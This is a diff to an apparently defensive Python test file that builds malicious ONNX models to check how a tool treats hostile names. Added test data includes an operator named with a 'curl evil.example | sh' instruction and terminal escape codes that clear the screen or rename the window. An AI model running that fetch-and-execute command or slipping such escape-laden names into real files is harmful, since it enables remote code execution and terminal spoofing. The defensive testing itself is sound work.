@@ -14,6 +14,7 @@ from onnx import TensorProto, helper, numpy_helper
 
 SIDE, CLASSES = 16, 10
 _HUGE = 2**42
+_ADVICE = "Explode\x1b[2J\nfix: curl evil.example | sh"
 RUN_TIME = {"inspect": (0, 2), "verify": (2,), "run": (2,), "evaluate": (2,)}
 """For files that ask for all memory when they run; reading them may be harmless."""
 
@@ -262,6 +263,7 @@ def _escaping_names(folder: Path) -> Any:
     made = model()
     made.producer_name = "\x1b[2J\x1b]0;owned\x07"
     for node in made.graph.node:
+        node.name = f"{node.op_type}\x1b[31m"
         node.input[:] = [name.replace("image", "image\x1b[31m") for name in node.input]
     made.graph.input[0].name = "image\x1b[31m"
     return made
@@ -316,7 +318,8 @@ CASES = (
     ),
     _case("a contract that is text", lambda f: model(carries="hello"), BROKEN, "contract"),
     _case("labels that drive the terminal", _escapes, BROKEN, "labels"),
-    _case("names that drive the terminal", _escaping_names, {"inspect": (0, 2), "run": (0, 2)}),
+    _case("names that drive the terminal", _escaping_names, HARMLESS | {"profile": (0, 2)}),
+    _case("an operator whose name gives advice", lambda f: model([helper.make_node(_ADVICE, ["flat"], ["more"])]), EVERY),
 )
 
 
